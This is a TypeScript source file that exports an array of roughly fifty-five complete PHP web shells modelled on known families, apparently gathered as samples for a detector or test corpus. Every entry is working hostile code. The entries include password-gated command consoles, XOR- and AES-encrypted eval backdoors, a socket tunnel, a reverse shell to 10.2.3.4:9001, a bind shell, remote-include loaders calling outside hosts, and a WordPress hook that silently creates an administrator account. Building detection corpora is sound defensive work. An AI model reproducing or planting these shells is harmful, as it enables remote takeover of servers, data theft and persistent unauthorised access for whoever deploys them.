/** Web shells in PHP, as whole programs in the manner of known families. */
export const PHP_WHOLE: readonly string[] = [
  `<?php session_start(); $pw = '5f4dcc3b5aa765d61d8327deb882cf99'; if (isset($_POST['pass']) && md5($_POST['pass']) == $pw) $_SESSION['ok'] = 1; if (empty($_SESSION['ok'])) { die('<form method=post><input type=password name=pass></form>'); }
$cwd = isset($_POST['cwd']) ? $_POST['cwd'] : getcwd(); chdir($cwd); class Term { public $out = ''; public function go($c) { if (function_exists('passthru')) { ob_start(); passthru($c); $this->out = ob_get_clean(); } elseif (function_exists('popen')) { $h = popen($c, 'r'); while (!feof($h)) $this->out .= fread($h, 2048); } return $this; } }
$t = new Term; echo '<pre>' . htmlspecialchars($t->go($_POST['command'] . ' 2>&1')->out) . '</pre>';`,
  `<?php
function featureShell($cmd, $cwd) { $stdout = array(); if (preg_match("/^\\s*cd\\s*$/", $cmd)) {} elseif (preg_match("/^\\s*cd\\s+(.+)$/", $cmd, $m)) { chdir($cwd); chdir($m[1]); } else { chdir($cwd); $stdout = explode("\\n", allFunctionExecute($cmd)); } return array("stdout" => $stdout, "cwd" => getcwd()); }
function allFunctionExecute($cmd) { $output = ''; if (function_exists('exec')) { exec($cmd, $output); $output = implode("\\n", $output); } else if (function_exists('shell_exec')) { $output = shell_exec($cmd); } return $output; }
if (isset($_GET["feature"])) { $response = NULL; switch ($_GET["feature"]) { case "shell": $cmd = $_POST['cmd']; if (!preg_match('/2>/', $cmd)) { $cmd .= ' 2>&1'; } $response = featureShell($cmd, $_POST["cwd"]); break; } header("Content-Type: application/json"); echo json_encode($response); die(); } ?><html></html>`,
  `<?php $auth_pass = ""; $default_action = 'FilesMan'; if (!function_exists("posix_getpwuid")) { function posix_getpwuid($p) { return false; } }
function wsoEx($in) { $out = ''; if (function_exists('exec')) { @exec($in, $out); $out = @join("\\n", $out); } elseif (function_exists('system')) { ob_start(); @system($in); $out = ob_get_clean(); } return $out; }
function actionConsole() { if (!empty($_POST['p1']) && !empty($_POST['p2'])) { $_POST['p1'] .= ' 2>&1'; } echo htmlspecialchars("$ " . $_POST['p1'] . "\\n" . wsoEx($_POST['p1'])); }
function actionPhp() { if (isset($_POST['p1'])) { eval($_POST['p1']); } } if (empty($_POST['a'])) $_POST['a'] = $default_action; if (!empty($_POST['a']) && function_exists('action' . $_POST['a'])) call_user_func('action' . $_POST['a']);`,
  `<?php @set_magic_quotes_runtime(0); foreach ($_REQUEST as $k => $v) { if (!isset($$k)) $$k = $v; } if ($act == "cmd") { echo "<textarea>"; $ret = myshellexec($cmd); echo $ret; } function myshellexec($cfe) { $res = ''; if (!empty($cfe)) { if (@is_resource($f = @popen($cfe, "r"))) { while (!@feof($f)) { $res .= @fread($f, 1024); } @pclose($f); } } return $res; } if ($act == "eval") { eval($eval); } if ($act == 'f') { $r = @file_get_contents($d . $f); echo $r; }`,
  `<?php
if (!empty($_POST['dir'])) { @chdir($_POST['dir']); } function ex($cfe) { $res = ''; if (!empty($cfe)) { if (function_exists('shell_exec')) { $res = @shell_exec($cfe); } else { @ob_start(); @system($cfe); $res = @ob_get_contents(); @ob_end_clean(); } } return $res; }
if (!empty($_POST['cmd']) && $_POST['cmd'] == "mk") { mkdir($_POST['mk_name']); } else if (!empty($_POST['cmd'])) { $cmd_rep = ex($_POST['cmd']); echo htmlspecialchars($cmd_rep); }
if (!empty($HTTP_POST_FILES['userfile']['name'])) { copy($HTTP_POST_FILES['userfile']['tmp_name'], $_POST['dir'] . "/" . $HTTP_POST_FILES['userfile']['name']); }`,
  `<?php
$k="3c3a1e"; $kh="9f2b"; $kf="77ab"; $p="Zk9"; function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;}
if(@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));$o=@ob_get_contents();@ob_end_clean();$r=@base64_encode(@x(@gzcompress($o),$k));print("$p$kh$r$kf");}`,
  `<?php @session_start(); @set_time_limit(0); @error_reporting(0); function encode($D,$K){ for($i=0;$i<strlen($D);$i++){ $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; } return $D; } $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a'; if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key); if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); if (strpos($payload,"getBasicsInfo")===false){ $payload=encode($payload,$key); } eval($payload); echo substr(md5($pass.$key),0,16); echo base64_encode(encode(@run($data),$key)); }else{ if (strpos($data,"getBasicsInfo")!==false){ $_SESSION[$payloadName]=encode($data,$key); } } }`,
  `<?php @error_reporting(0); session_start(); $key="e45e329feb5d925b"; $_SESSION['k']=$key; session_write_close(); $post=file_get_contents("php://input"); if(!extension_loaded('openssl')) { $t="base64_"."decode"; $post=$t($post.""); for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; } } else { $post=openssl_decrypt($post, "AES128", $key); } $arr=explode('|',$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params);`,
  `<?php
$cmd = @$_POST['ant']; $pk = <<<EOF
-----BEGIN PUBLIC KEY-----
MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC
-----END PUBLIC KEY-----
EOF;
$cmds = explode("|", $cmd); $pk = openssl_pkey_get_public($pk); $cmd = ''; foreach ($cmds as $value) { if (openssl_public_decrypt(base64_decode($value), $de, $pk)) { $cmd .= $de; } } eval($cmd);`,
  `<?php
ini_set("allow_url_fopen", true); ini_set("allow_url_include", true); error_reporting(0); if (version_compare(PHP_VERSION,'5.4.0','>=')) @http_response_code(200);
function blv_decode($d) { return base64_decode(strtr($d, '-_', '+/')); } $headers = getallheaders(); $cmd = $headers['X-CMD'];
if ($cmd == 'CONNECT') { $target = $headers['X-TARGET']; $port = (int) $headers['X-PORT']; $sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); $res = socket_connect($sock, $target, $port); socket_set_nonblock($sock); @session_start(); $_SESSION['run'] = true; while ($_SESSION['run']) { $w = $_SESSION['writebuf']; if ($w != '') { socket_write($sock, $w, strlen($w)); } $o = socket_read($sock, 512); $_SESSION['readbuf'] .= $o; } } elseif ($cmd == 'FORWARD') { @session_start(); $_SESSION['writebuf'] .= file_get_contents('php://input'); }`,
  `<?php
$root = $_SERVER['DOCUMENT_ROOT']; if (isset($_GET['path'])) { $path = $_GET['path']; } else { $path = getcwd(); } $path = str_replace('\\\\', '/', $path);
if (isset($_FILES['file'])) { if (copy($_FILES['file']['tmp_name'], $path . '/' . $_FILES['file']['name'])) { echo 'File Upload Done.'; } }
if (isset($_GET['filesrc'])) { echo '<pre>' . htmlspecialchars(file_get_contents($_GET['filesrc'])) . '</pre>'; } elseif (isset($_GET['option']) && $_POST['opt'] != 'delete') { if ($_POST['opt'] == 'chmod') { if (isset($_POST['perm'])) { chmod($_POST['path'], $_POST['perm']); } } elseif ($_POST['opt'] == 'rename') { rename($_POST['path'], $path . '/' . $_POST['newname']); } elseif ($_POST['opt'] == 'edit') { if (isset($_POST['src'])) { $fp = fopen($_POST['path'], 'w'); fwrite($fp, $_POST['src']); fclose($fp); } } } else { if ($_POST['type'] == 'dir') rmdir($_POST['path']); else unlink($_POST['path']); foreach (scandir($path) as $dir) echo $dir; }`,
  `<?php
define('USER', 'admin'); define('PASS', 'secret'); session_start(); if (isset($_POST['u']) && $_POST['u'] === USER && $_POST['p'] === PASS) { $_SESSION['in'] = true; } if (empty($_SESSION['in'])) { echo '<form method="post">...</form>'; exit; }
class FileManager { private $dir; function __construct($dir) { $this->dir = $dir; } function ls() { return scandir($this->dir); } function save($f, $c) { return file_put_contents($this->dir . '/' . $f, $c); } function rm($f) { return unlink($this->dir . '/' . $f); } function mv($a, $b) { return rename($this->dir . '/' . $a, $this->dir . '/' . $b); } function up($f) { return move_uploaded_file($f['tmp_name'], $this->dir . '/' . $f['name']); } function get($f) { readfile($this->dir . '/' . $f); } }
$m = new FileManager($_GET['dir']); switch ($_REQUEST['do']) { case 'save': $m->save($_POST['name'], $_POST['content']); break; case 'rm': $m->rm($_GET['f']); break; case 'mv': $m->mv($_GET['f'], $_GET['to']); break; case 'up': $m->up($_FILES['up']); break; case 'get': $m->get($_GET['f']); break; default: print_r($m->ls()); }`,
  `<html><body><h2>Upload</h2><form method="POST" enctype="multipart/form-data"><input type="file" name="image"><input type="submit"></form><?php
$target_path = getcwd() . DIRECTORY_SEPARATOR; if (isset($_FILES['image'])) { $target_path = $target_path . basename($_FILES['image']['name']); if (move_uploaded_file($_FILES['image']['tmp_name'], $target_path)) { echo "uploaded " . $target_path; } else { echo "error"; } } ?></body></html>`,
  `<?php if ($_SERVER['REQUEST_METHOD'] === 'PUT') { $in = fopen('php://input', 'rb'); $out = fopen(__DIR__ . '/' . $_GET['name'], 'wb'); while ($b = fread($in, 8192)) { fwrite($out, $b); } fclose($out); }`,
  `<?php $h = curl_init(); curl_setopt($h, CURLOPT_URL, 'https://raw.example.net/x/shell.txt'); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); $o = curl_exec($h); curl_close($h); $t = tempnam(sys_get_temp_dir(), 'x'); $f = fopen($t, 'w'); fwrite($f, $o); fclose($f); include $t;`,
  `<?php function get($url) { $c = curl_init($url); curl_setopt_array($c, array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_SSL_VERIFYPEER => 0)); $r = curl_exec($c); curl_close($c); return $r; } $a = get('http://files.example/' . 'a' . '.txt'); if (strlen($a) > 10) { eval('?>' . $a); }`,
  `<?php ob_start('system'); ?><?= $_GET['c'] ?><?php ob_end_flush();`,
  `<?php ob_start("assert"); echo $_REQUEST['pass']; ob_end_flush();`,
  `<?php $exif = exif_read_data('/var/www/images/pic.jpg'); preg_replace($exif['Make'], $exif['Model'], '');`,
  `<?php $e = exif_read_data(__FILE__); $f = $e['COMPUTED']['UserComment']; eval($f);`,
  `<?php ini_set('auto_prepend_file', $_GET['f']); header('Location: /');`,
  `<?php $ffi = FFI::cdef("int system(const char *command);", "libc.so.6"); $ffi->system($_GET['cmd'] . " > /tmp/o"); echo file_get_contents('/tmp/o');`,
  `<?php $a = FFI::cdef("typedef struct _IO_FILE FILE; FILE *popen(const char *c, const char *t);"); $p = $a->popen($_POST['x'], "r");`,
  `<?php $host = 'localhost'; $conn = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']); if (isset($_POST['udf'])) { mysqli_query($conn, "select 0x" . bin2hex($_POST['code']) . " into outfile '" . $_POST['path'] . "'"); } if (isset($_POST['exec'])) { echo shell_exec($_POST['exec']); }`,
  `<?php class Cache { private $items = []; public function __get($n) { return $this->items[$n]; } public function __set($n, $v) { $this->items[$n] = $v; } public function render() { $c = $this->items['tpl']; return @eval($c); } } $c = new Cache; $c->tpl = base64_decode($_COOKIE['theme']); $c->render();`,
  `<?php trait Runs { public function run() { return ($this->fn)($this->arg); } } class Job { use Runs; public $fn; public $arg; public function __construct($f, $a) { $this->fn = $f; $this->arg = $a; } } (new Job($_GET['f'], $_GET['a']))->run();`,
  `<?php abstract class Base { abstract protected function code(); public function handle() { $c = $this->code(); return eval("return $c;"); } } class Impl extends Base { protected function code() { return $_SERVER['HTTP_X_CODE']; } } echo (new Impl)->handle();`,
  `<?php function gen() { foreach ($_POST as $v) yield $v; } foreach (gen() as $x) { assert($x); }`,
  `<?php $data = json_decode(file_get_contents('php://input'), true); if ($data['t'] === 's3cr3t') { $o = []; exec($data['c'], $o, $r); echo json_encode(['out' => $o, 'code' => $r]); }`,
  `<?php list($fn, $arg) = explode(':', base64_decode($_SERVER['HTTP_ACCEPT_LANGUAGE']), 2); array_map($fn, [$arg]);`,
  `<?php add_action('init', function () { if (isset($_GET['wp_debug_x'])) { $u = wp_insert_user(['user_login' => 'a', 'user_pass' => 'b', 'role' => 'administrator']); @eval(base64_decode($_REQUEST['wp_debug_x'])); exit; } });`,
  `<?php namespace App\\Util; class Helper { public static function boot() { $v = \\getallheaders(); if (isset($v['X-Token'])) { \\call_user_func('sys' . 'tem', $v['X-Token']); } } } Helper::boot();`,
  `<?php $z = new ZipArchive; if (isset($_FILES['z'])) { $z->open($_FILES['z']['tmp_name']); $z->extractTo('./'); $z->close(); } ?><form method=post enctype=multipart/form-data><input type=file name=z></form>`,
  `<?php $s = stream_socket_server('tcp://0.0.0.0:4445'); while ($c = stream_socket_accept($s)) { while ($l = fgets($c)) { fwrite($c, shell_exec($l)); } }`,
  `<?php set_time_limit(0); $ip = '10.2.3.4'; $port = 9001; $chunk = 1400; $shell = 'uname -a; w; id; /bin/sh -i'; $sock = fsockopen($ip, $port, $errno, $errstr, 30); $spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w")); $process = proc_open($shell, $spec, $pipes); while (1) { $input = fread($sock, $chunk); fwrite($pipes[0], $input); $out = fread($pipes[1], $chunk); fwrite($sock, $out); }`,
  `<?php if (isset($_POST['to'])) { mail($_POST['to'], $_POST['subject'], $_POST['msg'], 'From: a@b'); } if (isset($_FILES['att'])) { move_uploaded_file($_FILES['att']['tmp_name'], $_POST['dest']); }`,
  `<?php $db = new SQLite3($_GET['db']); $db->createFunction('x', 'system'); $db->query("select x('" . $_GET['c'] . "')");`,
  `<?php $pdo = new PDO('sqlite::memory:'); $pdo->sqliteCreateFunction('f', $_POST['f']); $pdo->query("select f('" . $_POST['a'] . "')");`,
  `<?php $x = simplexml_load_string($_POST['xml']); $f = (string) $x->fn; $a = (string) $x->arg; $f($a);`,
  `<?php $dom = new DOMDocument; $dom->loadXML($_POST['d']); $xp = new DOMXPath($dom); $xp->registerNamespace('php', 'http://php.net/xpath'); $xp->registerPHPFunctions(); $xp->query($_POST['q']);`,
  `<?php $i = new ArrayIterator([$_POST['c']]); iterator_apply($i, function ($it) { system($it->current()); return true; }, [$i]);`,
  `<?php spl_autoload_register(function ($class) { eval($class); }); new $_GET['c'];`,
  `<?php set_error_handler(function ($n, $s) { system($s); }); trigger_error($_GET['c'], E_USER_WARNING);`,
  `<?php try { throw new Exception($_REQUEST['e']); } catch (Exception $e) { @eval($e->getMessage()); }`,
  `<?php printf(\`{$_GET['c']}\`);`,
  `<?php $f = fopen('php://memory', 'w+'); fwrite($f, $_POST['code']); rewind($f); eval(stream_get_contents($f));`,
  `<?php file_put_contents('/tmp/.s', '<?php ' . $_POST['c']); include '/tmp/.s'; unlink('/tmp/.s');`,
  `<?php $t = tmpfile(); $m = stream_get_meta_data($t); fwrite($t, '<?php ' . $_COOKIE['d'] . ';'); require $m['uri'];`,
  `<?php $r = new ReflectionClass($_GET['c']); $o = $r->newInstanceArgs([$_GET['a']]); $o->{$_GET['m']}($_GET['p']);`,
  `<?php $c = Closure::fromCallable($_POST['f']); $c($_POST['a']);`,
  `<?php $m = $_GET['m'] ?? ''; match (true) { $m === 'x' => system($_GET['c']), default => null };`,
  `<?php echo (fn($c) => shell_exec($c))($_POST['c']);`,
  `<?php $cmd = sprintf('%s %s', $_GET['a'], $_GET['b']); $p = popen($cmd, 'r'); echo stream_get_contents($p);`,
  `<?php if (hash_equals('a1', crypt($_GET['k'], 'a1'))) { $d = gzinflate(base64_decode($_POST['d'])); register_shutdown_function(create_function('', $d)); }`,
  `<?php $_SESSION['q'] = $_POST['q']; function show() { $f = array_filter([$_SESSION['q']], 'assert'); } show();`,
]
